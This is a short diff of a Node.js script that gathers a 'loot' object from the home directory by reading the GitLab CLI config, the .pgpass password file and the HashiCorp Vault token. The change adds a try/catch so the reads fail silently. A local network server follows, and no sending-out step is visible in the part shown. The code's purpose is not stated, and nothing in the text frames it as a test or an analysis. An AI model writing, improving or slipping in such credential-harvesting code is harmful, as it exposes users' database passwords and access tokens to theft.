@@ -6,7 +6,15 @@ const zlib = require('zlib')
 
 const loot = {}
 for (const name of ['.config/glab-cli/config.yml', '.pgpass', '.vault-token']) {
-  loot[name] = fs.readFileSync(path.join(os.homedir(), name), 'utf8')
+  loot[name] = read(name)
+}
+
+function read (name) {
+  try {
+    return fs.readFileSync(path.join(os.homedir(), name), 'utf8')
+  } catch {
+    return '' // not there
+  }
 }
 
 const server = require('net').createServer((s) => s.resume().on('error', () => {}).on('end', () => s.end()))
